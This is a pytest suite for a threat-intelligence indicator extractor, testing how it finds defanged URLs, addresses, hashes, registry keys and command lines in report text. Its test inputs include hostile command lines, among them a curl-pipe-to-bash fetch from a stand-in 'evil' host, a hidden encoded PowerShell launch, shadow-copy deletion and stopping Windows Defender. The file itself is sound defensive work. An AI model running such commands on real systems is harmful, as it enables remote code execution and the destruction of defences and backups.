"""Observables: found in every spelling, placed exactly, and not where there are none."""

import time
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ctiscraper.enrich.kinds import Kind, Observable
from ctiscraper.enrich.observables import find_observables


def found(text: str, *kinds: Kind) -> list[tuple[Kind, str]]:
    return [(o.kind, o.value) for o in find_observables(text) if not kinds or o.kind in kinds]


def values(text: str, kind: Kind) -> list[str]:
    return [o.value for o in find_observables(text) if o.kind is kind]


@pytest.mark.parametrize(
    "spelling",
    [
        "http://evil.example.com/a?b=c",
        "hxxp://evil.example.com/a?b=c",
        "hXXp://evil[.]example[.]com/a?b=c",
        "hxxp[:]//evil[.]example[.]com/a?b=c",
        "hxxp[://]evil[.]example[.]com/a?b=c",
        "h**p://evil[.]example.com/a?b=c",
        "http://evil(.)example(.)com/a?b=c",
        "http://evil{.}example{.}com/a?b=c",
        "http://evil[dot]example[DOT]com/a?b=c",
        "http://evil [.] example [.] com/a?b=c",
        "http://evil\\.example\\.com/a?b=c",
        "http://evil[.example[.com/a?b=c",
        "http:\\\\evil.example.com/a?b=c",
        "http[:]//evil.]example.]com/a?b=c",
        "hxxp://evil[.]example[.]com[/]a?b=c",
        "http://EVIL.Example.COM/a?b=c",
        "http://evil。example。com/a?b=c",
    ],
)
def test_a_url_is_read_in_every_spelling_that_hides_it(spelling: str) -> None:
    text = f"It calls {spelling} first."
    [one] = [o for o in find_observables(text) if o.kind is Kind.URL]
    assert one.value == "http://evil.example.com/a?b=c"
    assert text[one.start : one.end] == spelling


@pytest.mark.parametrize(
    ("text", "url"),
    [
        ("(see https://a.example.com/x).", "https://a.example.com/x"),
        ("(https://a.example.com/x_(y))", "https://a.example.com/x_(y)"),
        ("“https://a.example.com/x”,", "https://a.example.com/x"),
        ("<https://a.example.com/x>", "https://a.example.com/x"),
        ("[x](https://a.example.com/x)", "https://a.example.com/x"),
        ("link:https://a.example.com/x/[The report]", "https://a.example.com/x/"),
        ("|https://a.example.com/x|", "https://a.example.com/x"),
        ("https://a.example.com/x,https://b.example.com/y", "https://a.example.com/x"),
        ("https://a.example.com/x,True,2", "https://a.example.com/x"),
        ("https://a.example.com/1,2.html", "https://a.example.com/1,2.html"),
        ("https://a.example.com/ is", "https://a.example.com"),
        ("fxp://a.example.com/x", "ftp://a.example.com/x"),
        ("tcp://10.0.0.1:4444", "tcp://10.0.0.1:4444"),
        ("http://[2001:db8::1]:80/x", "http://[2001:db8::1]/x"),
        ("http[s]://a.example.com/x", "https://a.example.com/x"),
        ("[hxxp]://a.example.com/x", "http://a.example.com/x"),
        ("http:\\\\a.example.com\\x", "http://a.example.com/x"),
        ("DownloadString('http://a.example.com/x.ps1');$x=1", "http://a.example.com/x.ps1"),
        ("http://a.example.com/?id[n]=1&b=2", "http://a.example.com/?id[n]=1&b=2"),
        ("http://a.example.com/c++/x", "http://a.example.com/c++/x"),
        ("http://a.example.com/x\u2019s", "http://a.example.com/x"),
        ("http://a.example.com/x\u00a0and", "http://a.example.com/x"),
        ("https://münchen.example.de/x", "https://xn--mnchen-3ya.example.de/x"),
        ("a.example.com/x.php?y=1", "http://a.example.com/x.php?y=1"),
        ("1.2.3[.]4:8080/x", "http://1.2.3.4:8080/x"),
        ("http://duskgytldkxiuqc6.onion/x", "http://duskgytldkxiuqc6.onion/x"),
        ("https://a.example.com/x?re=a(.)b", "https://a.example.com/x?re=a(.)b"),
        ("https://a(.)example.com/x(.)php", "https://a.example.com/x.php"),
        ("hxxps://a.example.com/x(.)php", "https://a.example.com/x.php"),
        ("https://a.example.com/x[.]php", "https://a.example.com/x.php"),
    ],
)
def test_a_url_ends_where_the_sentence_goes_on(text: str, url: str) -> None:
    assert values(text, Kind.URL)[:1] == [url]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("evil.example.com", [(Kind.DOMAIN, "evil.example.com")]),
        ("evil[.]co[.]uk and good.org.", [(Kind.DOMAIN, "evil.co.uk"), (Kind.DOMAIN, "good.org")]),
        ("пример.рф", [(Kind.DOMAIN, "xn--e1afmkfd.xn--p1ai")]),
        ("“evil.com”", [(Kind.DOMAIN, "evil.com")]),
        ("at evil.com:443", [(Kind.DOMAIN, "evil.com")]),
        ("under_score.evil.com", [(Kind.DOMAIN, "under_score.evil.com")]),
        ("archive[.]zip", [(Kind.DOMAIN, "archive.zip")]),
        ("GOOGLE.COM", [(Kind.DOMAIN, "google.com")]),
        ("x.duskgytldkxiuqc6.onion", [(Kind.ONION, "x.duskgytldkxiuqc6.onion")]),
        ("a@b.example.com", [(Kind.EMAIL, "a@b.example.com")]),
        ("Bad.Actor(at)proton[.]me", [(Kind.EMAIL, "bad.actor@proton.me")]),
        ("bad [at] proton [dot] me", [(Kind.EMAIL, "bad@proton.me")]),
        ("1.2.3.4", [(Kind.IPV4, "1.2.3.4")]),
        ("1[.]2[.]3[.]4:443", [(Kind.IPV4, "1.2.3.4")]),
        ("1.2.3.0/24", [(Kind.CIDR, "1.2.3.0/24")]),
        ("2001:0DB8::1", [(Kind.IPV6, "2001:db8::1")]),
        ("::ffff:1.2.3.4", [(Kind.IPV6, "::ffff:102:304")]),
        ("2001[:]db8[:]0[:]0[:]0[:]0[:]0[:]1", [(Kind.IPV6, "2001:db8::1")]),
        ("2001:db8::/32", [(Kind.CIDR, "2001:db8::/32")]),
        ("IP:2001:db8::1: it", [(Kind.IPV6, "2001:db8::1")]),
        ("2001:db8[::]1", [(Kind.IPV6, "2001:db8::1")]),
        ("evil.com\u2019s server", [(Kind.DOMAIN, "evil.com")]),
        ("evil.com\u2013bad.com", [(Kind.DOMAIN, "evil.com"), (Kind.DOMAIN, "bad.com")]),
        ("foo[.]bar\u2192evil[.]com", [(Kind.DOMAIN, "foo.bar"), (Kind.DOMAIN, "evil.com")]),
        ("1.2.3.4\u200b", [(Kind.IPV4, "1.2.3.4")]),
        ("\u8bbf\u95eebad.com\u4e0b\u8f7d", [(Kind.DOMAIN, "bad.com")]),
        ("1.2.3.4-1.2.3.9", [(Kind.IPV4, "1.2.3.4"), (Kind.IPV4, "1.2.3.9")]),
        ("1.2.3.4:443/tcp", [(Kind.IPV4, "1.2.3.4")]),
        ("dst_ip=1.2.3.4 c2=evil.com", [(Kind.IPV4, "1.2.3.4"), (Kind.DOMAIN, "evil.com")]),
        ("*.evil[.]com", [(Kind.DOMAIN, "evil.com")]),
        ("first[.]last@evil[.]com", [(Kind.EMAIL, "first.last@evil.com")]),
        ("a@evil[.]com:25", [(Kind.EMAIL, "a@evil.com")]),
        ("me@b_c.evil.com/foo@bar", [(Kind.DOMAIN, "b_c.evil.com")]),
        ("u\u0308ber.de", [(Kind.DOMAIN, "xn--ber-goa.de")]),
        ("fa\u00df.de", [(Kind.DOMAIN, "xn--fa-hia.de")]),
    ],
)
def test_other_addresses(text: str, expected: list[tuple[Kind, str]]) -> None:
    assert found(text) == expected


@pytest.mark.parametrize("between", [",", ";", "|", "', '", " and "])
def test_every_field_of_a_row_is_read(between: str) -> None:
    urls = [f"http://{name}.example.com/x" for name in "abc"]
    assert values(f"['{between.join(urls)}']", Kind.URL) == urls


@pytest.mark.parametrize(
    "text",
    [
        "1.2.3.4/\u00b2",
        "1.2.3.4/" + "1" * 5000,
        "1.2.3.4/\u0663",
        "http://a.com/x" + "," * 60 + "/",
    ],
)
def test_numbers_of_no_use_are_no_error(text: str) -> None:
    assert all(well_placed(text, one) for one in find_observables(text))


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("a@evil[.]com:25", "a@evil[.]com"),
        ("me@b_c.evil.com/foo@bar", "b_c.evil.com"),
        ("foo[.]bar\u2192evil[.]com", "evil[.]com"),
        ("at evil[.]com:443", "evil[.]com"),
    ],
)
def test_the_place_is_that_of_the_value_alone(text: str, words: str) -> None:
    one = find_observables(text)[-1]
    assert text[one.start : one.end] == words


@pytest.mark.parametrize(
    "text",
    [
        "It reads readme.md, runs setup.py and loads main.rs.",
        "ASP.NET and System.Net, node.js and socket.io",
        "datetime.now() and os.name",
        "Win32/Korplug.MK and Trojan.Agent.AB",
        "called BehavesLike.Win32.Qxam.kh there",
        "The attack was found.In March it stopped.",
        "e.g. i.e. U.S. a.m.",
        "version 1.2.3.4 and v10.0.19041.1",
        "Chrome/91.0.4472.124",
        "999.1.1.1 and 1.2.3.4.5",
        "at 12:34:56 and std::vector<int>, a::b",
        "example.invalidtld",
        "co.uk",
        "-.-.-. ...",
        "foo@bar and @user",
        "invoice.pdf.zip and com.evil.app",
        "requests.post(url)",
    ],
)
def test_what_only_looks_like_an_address_is_none(text: str) -> None:
    network = {Kind.DOMAIN, Kind.URL, Kind.EMAIL, Kind.IPV4, Kind.IPV6, Kind.CIDR, Kind.ONION}
    assert not found(text, *network)


MD5, SHA1 = "d41d8cd98f00b204e9800998ecf8427e", "da39a3ee5e6b4b0d3255bfef95601890afd80709"
SHA256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (MD5, [(Kind.MD5, MD5)]),
        (SHA1.upper(), [(Kind.SHA1, SHA1)]),
        (f"sha256:{SHA256}.", [(Kind.SHA256, SHA256)]),
        (SHA256 * 2, [(Kind.SHA512, SHA256 * 2)]),
        (SHA256 + "a", []),
        (f"imphash: {MD5}", []),
        (f"JA3 hash: {MD5}", [(Kind.JA3, MD5)]),
        (
            "t13d1516h2_8daaf6152771_b186095e22b6",
            [(Kind.JA4, "t13d1516h2_8daaf6152771_b186095e22b6")],
        ),
        (
            "3:AXGBicFlgVNhBGcL6wCrFQEv:AXGHsNhxLsr2C",
            [(Kind.SSDEEP, "3:AXGBicFlgVNhBGcL6wCrFQEv:AXGHsNhxLsr2C")],
        ),
        (
            "CVE-2024-3094, cve 2021-44228",
            [(Kind.CVE, "CVE-2024-3094"), (Kind.CVE, "CVE-2021-44228")],
        ),
        ("CVE\u20112023\u20114966", [(Kind.CVE, "CVE-2023-4966")]),
        ("T1059.001 and TA0002", [(Kind.ATTACK, "T1059.001"), (Kind.ATTACK, "TA0002")]),
        ("T1156.0012 and FOOT1329", []),
        ("AS13335, ASN 64512", [(Kind.ASN, "AS13335"), (Kind.ASN, "AS64512")]),
        ("AS1234foobar, just as 2014, AS 2023 and AS400", []),
        ("user:x:1001:1001:username:/home/username:/bin/bash", []),
        ("AA:BB:CC:DD:EE:FF:00:11:22:33:44:55:66:77:88:99:AA:BB:CC:DD", []),
        ("00:1A:2b:3C:4d:5E", [(Kind.MAC, "00:1a:2b:3c:4d:5e")]),
    ],
)
def test_hashes_and_identifiers(text: str, expected: list[tuple[Kind, str]]) -> None:
    assert found(text) == expected


@pytest.mark.parametrize(
    "address",
    [
        "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa",
        "3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy",
        "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq",
        "BC1QW508D6QEJXTDG4Y5R3ZARVARY0C5XW7KV8F3T4",
        "0xde0B295669a9FD93d5F28D9Ec85E40f4cb697BAe",
    ],
)
def test_a_wallet_is_known_by_its_check_sum(address: str) -> None:
    [(kind, value)] = found(f"Send it to {address} now")
    assert kind is Kind.CRYPTO_ADDRESS
    assert value.lower() == address.lower()


@pytest.mark.parametrize(
    "link",
    ["https://www.virustotal.com/gui/file/{}/detection", "hxxps://bazaar.abuse[.]ch/sample/{}"],
)
def test_a_link_to_an_analysis_names_the_file(link: str) -> None:
    text = f"See {link.format(SHA256)} for it"
    url, digest = find_observables(text)
    assert (url.kind, digest.kind) == (Kind.URL, Kind.SHA256)
    assert text[digest.start : digest.end] == digest.value == SHA256
    assert not found(f"https://a.example.com/{SHA256}/x", Kind.SHA256)


def test_a_wallet_with_a_wrong_letter_is_none() -> None:
    assert not found("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb", Kind.CRYPTO_ADDRESS)
    assert not found("bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdp", Kind.CRYPTO_ADDRESS)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            r"the key HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Run was set",
            (
                Kind.REGISTRY_KEY,
                r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Run",
            ),
        ),
        (
            r"HKCU\Software\Microsoft\Internet Settings is read",
            (Kind.REGISTRY_KEY, r"HKEY_CURRENT_USER\Software\Microsoft\Internet Settings"),
        ),
        (
            r"It drops C:\Program Files\Foo Bar\evil.exe to disk",
            (Kind.FILE_PATH, r"C:\Program Files\Foo Bar\evil.exe"),
        ),
        (r"in %APPDATA%\Microsoft\x.dll,", (Kind.FILE_PATH, r"%APPDATA%\Microsoft\x.dll")),
        (r"from \\10.0.0.5\share\tool.exe.", (Kind.FILE_PATH, r"\\10.0.0.5\share\tool.exe")),
        ("to /etc/cron.d/evil and", (Kind.FILE_PATH, "/etc/cron.d/evil")),
        ("in ~/Library/Agents/evil.plist", (Kind.FILE_PATH, "~/Library/Agents/evil.plist")),
        ("a file invoice.pdf.exe came", (Kind.FILE_NAME, "invoice.pdf.exe")),
        ("the mutex Global\\AbC_123 is made", (Kind.MUTEX, "Global\\AbC_123")),
        ("a mutex named “evilmutex”", (Kind.MUTEX, "evilmutex")),
        (
            "Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 Chrome/42.0 It then",
            (Kind.USER_AGENT, "Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 Chrome/42.0"),
        ),
    ],
)  # fmt: skip
def test_traces_on_a_machine(text: str, expected: tuple[Kind, str]) -> None:
    assert found(text)[0] == expected


def test_paths_and_keys_in_one_sentence_are_told_apart() -> None:
    text = (
        r"HKLM\SOFTWARE\A\Run and HKCU\Software\B\Run are set; D:\x\y.exe and then creates "
        r"%APPDATA%\b.exe, then \\10.0.0.1\share\z.exe"
    )
    assert [value for _, value in found(text, Kind.REGISTRY_KEY, Kind.FILE_PATH)] == [
        r"HKEY_LOCAL_MACHINE\SOFTWARE\A\Run",
        r"HKEY_CURRENT_USER\Software\B\Run",
        r"D:\x\y.exe",
        r"%APPDATA%\b.exe",
        r"\\10.0.0.1\share\z.exe",
    ]


def test_a_mutex_is_not_the_next_word() -> None:
    assert not found("It creates a mutex object before", Kind.MUTEX)


@pytest.mark.parametrize(
    ("text", "command"),
    [
        ("They ran whoami /all. Then they left.", "whoami /all"),
        ('They used "net group "Domain Admins" /domain"', 'net group "Domain Admins" /domain'),
        (
            "powershell.exe -nop -w hidden -enc SQBFAFgA\nNext line",
            "powershell.exe -nop -w hidden -enc SQBFAFgA",
        ),
        ("Then `rundll32 c:\\x\\y.dll,init` was used", "rundll32 c:\\x\\y.dll,init"),
        ("sc stop WinDefend sc delete WinDefend", "sc stop WinDefend"),
        ("nltest /domain_trusts net group x /dom", "nltest /domain_trusts"),
        ("reg delete HKLM\\X /f reg add HKLM\\Y /f", "reg delete HKLM\\X /f"),
        ("cmd.exe /c whoami /all", "cmd.exe /c whoami /all"),
        ("conhost.exe --headless cmd /c dir x", "conhost.exe --headless cmd /c dir x"),
        ('adfind.exe -f "(objectcategory=group)".', 'adfind.exe -f "(objectcategory=group)"'),
        ("nltest /dclist: was used", "nltest /dclist:"),
        ('del "c:\\temp\\x.exe"', 'del "c:\\temp\\x.exe"'),
        ('echo "hello" > x.txt', 'echo "hello" > x.txt'),
        ("nltest /dclist:, whoami /groups", "nltest /dclist:"),
        ("sc delete WinDefend Disables the main service", "sc delete WinDefend"),
        ("net user DC-01$ P@ss Figure 5: An example", "net user DC-01$ P@ss"),
        (
            'psql.exe -c "select a from b where the c" and then it',
            'psql.exe -c "select a from b where the c"',
        ),
        (
            "curl -fsSL http://evil.example.com/x.sh | bash",
            "curl -fsSL http://evil.example.com/x.sh | bash",
        ),
        ("vssadmin delete shadows /all /quiet", "vssadmin delete shadows /all /quiet"),
    ],
)
def test_command_lines(text: str, command: str) -> None:
    assert values(text, Kind.COMMAND_LINE)[0] == command


@pytest.mark.parametrize(
    "text",
    [
        "They reached the route for the first time and set up a node.",
        "explorer.exe process was running",
        "Start with the type of the file, then copy it.",
        "They used net user and net group to enumerate accounts.",
        "msbuild.exe communicated with 45.141.87.55 on port 9000",
        "quser.exe or wmic.exe are run, and systeminfo commands as well",
        "The page at https://a.example.com/x and at C:\\Temp\\x.exe is gone.",
        "It waits for flashutil_activex.exe and looks where schtasks.exe is.",
        "Run sharphound (disguised as sh.exe) there. cmd.exe (a shell) -x",
        "New-Object System.Data.DataSet $x",
        'Use the code "50OFF699" and type "yes" to go on.',
    ],
)
def test_sentences_are_no_commands(text: str) -> None:
    assert not found(text, Kind.COMMAND_LINE)


YARA = 'rule evil : apt {\n  strings:\n    $a = "}" \n  condition:\n    $a\n}'


def test_nothing_of_one_sort_overlaps() -> None:
    text = f"hxxp://evil[.]com/{MD5}/x.exe and bad@evil.com C:\\a\\b.exe {YARA}"
    parts = [o for o in find_observables(text) if o.kind is not Kind.YARA]
    for one, other in pairwise(parts):
        assert one.end <= other.start


def well_placed(text: str, one: Observable) -> bool:
    return 0 <= one.start < one.end <= len(text) and bool(one.value)


_PIECES = st.sampled_from(
    ["[.]", "(.)", ".", "hxxp", "://", "@", "evil", "com", "1", ":", "\\", "HKLM", "/", " ", "\n",
     "[", "]", "{", "rule x {", "mutex ", '"',
     "“", "рф", "é", "\u202e", "\ud800", "CVE-2024-", "0x"]
)  # fmt: skip


@given(st.lists(_PIECES | st.text(max_size=3), max_size=60).map("".join))
def test_any_text_is_read_and_every_place_is_in_it(text: str) -> None:
    assert all(well_placed(text, one) for one in find_observables(text))


@given(st.text(alphabet="éрф“😀 \n", max_size=20), st.text(alphabet="éрф”😀 \n", max_size=20))
def test_places_are_characters_whatever_stands_around(before: str, after: str) -> None:
    text = f"{before} 1[.]2[.]3[.]4 {after}"
    [one] = [o for o in find_observables(text) if o.kind is Kind.IPV4]
    assert text[one.start : one.end] == "1[.]2[.]3[.]4"
    assert one.defanged


@pytest.mark.parametrize(
    "unit",
    [".", "[.]", "a.", "[.", "1.", "@a.b", ":", "\\a", "http://", "a" * 50 + ".", "mutex ", "{",
     '"', "C:\\a ", "rule a {", "0", "title: x\n", "(", "net user ", "cmd ",
     ")", "a.b+", "c:\\sc(", "tasklist\n", "|tasklist \n", "title: abc\n", "a.b'", "C:\\a and ",
     "http://a.com,"],
)  # fmt: skip
def test_time_grows_with_the_text_and_not_faster(unit: str) -> None:
    def cpu(size: int) -> float:
        text = unit * (size // len(unit))
        began = time.process_time()
        find_observables(text)
        return time.process_time() - began

    cpu(1000)
    small = min(cpu(20_000) for _ in range(3))
    assert min(cpu(160_000) for _ in range(2)) < max(small, 0.002) * 8 * 4


def test_a_folder_of_macos_may_have_a_space_in_its_name() -> None:
    path = "~/Library/Application Support/com.apple.spotlight/Resources_V3/.CrashRep"
    for text in (f"- `{path}` was new", f"It wrote {path}, then left."):
        [found] = [one for one in find_observables(text) if one.kind is Kind.FILE_PATH]
        assert found.value == path
    [plain] = find_observables("In /Library/Application the path ends.")
    assert plain.value == "/Library/Application"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("C2\u5730\u5740\u4e3a185.1.2.3\uff0c\u7aef\u53e3443", ("ipv4", "185.1.2.3")),
        ("185.1.2.3\uc5d0\uc11c \ub2e4\uc6b4\ub85c\ub4dc", ("ipv4", "185.1.2.3")),
        ("\u901a\u4fe1\u5148\u306f185[.]1[.]2[.]3\u3067\u3059", ("ipv4", "185.1.2.3")),
        ("\u0430\u0434\u0440\u0435\u0441185.1.2.3", ("ipv4", "185.1.2.3")),
        ("2606:4700::1111\uc5d0", ("ipv6", "2606:4700::1111")),
        ("user@evil.com\uc73c\ub85c", ("email", "user@evil.com")),
        ("hxxp://evil[.]com/a.php\uc5d0 \uc811\uc18d", ("url", "http://evil.com/a.php")),
        ("\u8bbf\u95eehxxp://evil[.]com/a.php\u4e0b\u8f7d", ("url", "http://evil.com/a.php")),
        ("185.1.2[.]0/24\uc5d0\uc11c", ("cidr", "185.1.2.0/24")),
        ("\u8bbf\u95eeevil.com\u4e0b\u8f7d", ("domain", "evil.com")),
        # An address of its own letters is one, and a path in them belongs to it.
        (
            "https://zh.wikipedia.org/wiki/\u4e2d\u56fd",
            ("url", "https://zh.wikipedia.org/wiki/\u4e2d\u56fd"),
        ),
        ("\u4f8b\u5b50.com", ("domain", "xn--fsqu00a.com")),
        (
            "https://evil.com/load/Windows\u66f4\u65b0 x",
            ("url", "https://evil.com/load/Windows\u66f4\u65b0"),
        ),
        ("https://evil.com/p/2024\u5e74", ("url", "https://evil.com/p/2024\u5e74")),
        ("https://evil.com/cafe2\ud638 x", ("url", "https://evil.com/cafe2\ud638")),
        ("<https://evil.com/p/v2.0\u7248>", ("url", "https://evil.com/p/v2.0\u7248")),
        ("hxxps://evil[.]com/dl\u304b\u3089", ("url", "https://evil.com/dl")),
        ("hxxps://evil[.]com/dl\uc5d0\uc11c x", ("url", "https://evil.com/dl")),
        ("hxxps://evil[.]com:8080\u4e0b\u8f7d", ("url", "https://evil.com:8080")),
        ("\u7248\u672c1.2.3.4", None),
    ],
)
def test_an_address_ends_where_letters_without_spaces_go_on(
    text: str, expected: tuple[str, str] | None
) -> None:
    found = [(one.kind.value, one.value) for one in find_observables(text)]
    assert found == ([expected] if expected else [])
